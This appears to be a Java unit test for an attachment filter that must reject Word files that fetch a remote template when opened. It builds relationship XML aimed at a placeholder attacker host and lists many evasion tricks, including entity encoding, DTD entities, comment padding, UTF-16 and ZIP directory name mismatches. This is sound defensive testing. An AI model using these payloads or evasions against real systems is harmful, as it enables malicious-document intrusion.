package org.reachable.work.attachments;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** A Word file that fetches a template from elsewhere when it is opened is refused, however that is spelt. */
class WordThatFetchesTest {

    private static final String TYPES =
            "<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    private static final String TEMPLATE =
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
    private static final String PLAIN =
            "<Relationship Id=\"r1\" Type=\"%s\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/>"
                    .formatted(TEMPLATE);
    private static final String TIES = "word/_rels/settings.xml.rels";

    private final FileTypes types = new FileTypes();

    static Stream<Arguments> spellings() {
        return Stream.of(
                Arguments.of("as Word writes it", ties(PLAIN)),
                Arguments.of("single quotes", ties(PLAIN.replace('"', '\''))),
                Arguments.of("blanks around the sign", ties(PLAIN.replace("TargetMode=", "TargetMode = "))),
                Arguments.of("a sign by its number", ties(PLAIN.replace("External", "&#69;xternal"))),
                Arguments.of(
                        "a prefix",
                        "<p:Relationships xmlns:p=\"urn:p\">%s</p:Relationships>"
                                .formatted(PLAIN.replace("<Rel", "<p:Rel"))),
                Arguments.of("a bracket in another", ties(PLAIN.replace("Id=\"r1\"", "Id=\"a>b\""))),
                Arguments.of("far behind", ties("<!--%s-->%s".formatted("x".repeat(201_000), PLAIN))),
                Arguments.of("its address ends as a link", ties(PLAIN.replace("t.dotm", "hyperlink"))),
                Arguments.of("without the word", ties(PLAIN.replace(" TargetMode=\"External\"", ""))),
                Arguments.of(
                        "by what is said before",
                        "<!DOCTYPE Relationships [<!ENTITY e \"External\">]>"
                                + ties(PLAIN.replace("External", "&e;"))));
    }

    @ParameterizedTest
    @MethodSource("spellings")
    void however(String how, String ties) throws IOException {
        assertThat(types.of(word(TIES, ties, StandardCharsets.UTF_8))).as(how).isEmpty();
    }

    @Test
    void inOtherLetters() throws IOException {
        String ties = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + ties(PLAIN);
        assertThat(types.of(word(TIES, ties, StandardCharsets.UTF_16))).isEmpty();
        assertThat(types.of(word(
                        TIES,
                        ties(PLAIN.replace("t.dotm", "x").replace("attachedTemplate", "hyperlink")),
                        StandardCharsets.UTF_16)))
                .as("a link that somebody presses")
                .contains(FileType.WORD);
    }

    /** Word reads the directory at the end; what reads one part after the other saw another letter. */
    @Test
    void whereTwoPartsHaveOneNameOrTheDirectoryNamesAnother() throws IOException {
        assertThat(types.of(word("word/_rels/SETTINGS.xml.rels", ties(""), StandardCharsets.UTF_8, TIES)))
                .as("two parts of one name")
                .isEmpty();
        byte[] whole = word("word/settings.rel1", ties(PLAIN), StandardCharsets.UTF_8);
        String letters = new String(whole, StandardCharsets.ISO_8859_1);
        assertThat(types.of(whole)).as("no part that says ties").contains(FileType.WORD);
        int named = letters.lastIndexOf("word/settings.rel1");
        assertThat(types.of((letters.substring(0, named) + "word/settings.rels" + letters.substring(named + 18))
                        .getBytes(StandardCharsets.ISO_8859_1)))
                .as("its directory calls a part otherwise")
                .isEmpty();
    }

    private static String ties(String one) {
        return "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">%s</Relationships>"
                .formatted(one);
    }

    private static byte[] word(String name, String ties, Charset letters, String... more) throws IOException {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", TYPES.getBytes(StandardCharsets.UTF_8));
        parts.put(name, ties.getBytes(letters));
        for (String other : more) {
            parts.put(other, ties.getBytes(letters));
        }
        var whole = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(whole)) {
            for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
            }
        }
        return whole.toByteArray();
    }
}
